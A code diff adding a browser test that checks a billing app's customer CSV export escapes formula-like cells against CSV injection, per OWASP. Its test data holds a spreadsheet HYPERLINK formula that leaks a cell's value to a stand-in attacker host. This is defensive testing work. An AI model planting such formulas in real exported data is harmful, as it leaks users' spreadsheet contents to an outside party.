@@ -1,3 +1,5 @@
+import fs from 'node:fs/promises';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { addDays, todayIn } from '../../shared/calibration/due-date';
 import { startBrowserRig, type BrowserRig } from '../support/browser';
@@ -116,5 +118,29 @@ describe('the billing desk in a real browser', () => {
     expect(quote).toMatchObject({ subtotalMinor: 1500, taxRateBasisPoints: 750, taxMinor: 113, depositMinor: 24_000 });
     await context.close();
   }, 60_000);
-});
 
+  // OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): a cell that
+  // starts with = + - @ (or tab/CR/LF) is written with a leading single quote.
+  it("exports a grid's rows as CSV with user text that looks like a formula written as text", async () => {
+    const formula = '=HYPERLINK("http://attacker.test/?leak="&A2,"Open")';
+    const clerkApi = await apiAs('billing@demo.test');
+    const added = await clerkApi('/customers', { company: formula, billingContact: '-2+3', billingEmail: 'grid-export@customer.test', taxNumber: '-12.50' });
+    expect(added.status).toBe(201);
+
+    const { context, page } = await signedIn(rig.browser, rig.baseUrl, 'billing@demo.test', 'Billing desk');
+    await page.goto(`${rig.baseUrl}/customers`);
+    const grid = page.getByRole('region', { name: 'Customers', exact: true }).filter({ has: page.getByRole('button', { name: 'Export CSV' }) });
+    await grid.getByRole('gridcell', { name: formula }).waitFor();
+    const [download] = await Promise.all([page.waitForEvent('download'), grid.getByRole('button', { name: 'Export CSV' }).click()]);
+    expect(download.suggestedFilename()).toBe('nestkeeper-customers.csv');
+    const text = await fs.readFile((await download.path())!, 'utf8');
+    const rows = parseCsv(text, { columns: true, bom: true }) as Record<string, string>[];
+    const row = rows.find((r) => r['Billing e-mail'] === 'grid-export@customer.test');
+    // The formula and the sum are text; a plain negative number is left as it is.
+    expect(row).toMatchObject({ Company: `'${formula}`, Contact: "'-2+3", 'Tax number': '-12.50' });
+    // Other customers export unchanged.
+    expect(rows.length).toBeGreaterThan(1);
+    expect(rows.filter((r) => r.Company.startsWith("'"))).toHaveLength(1);
+    await context.close();
+  }, 60_000);
+});
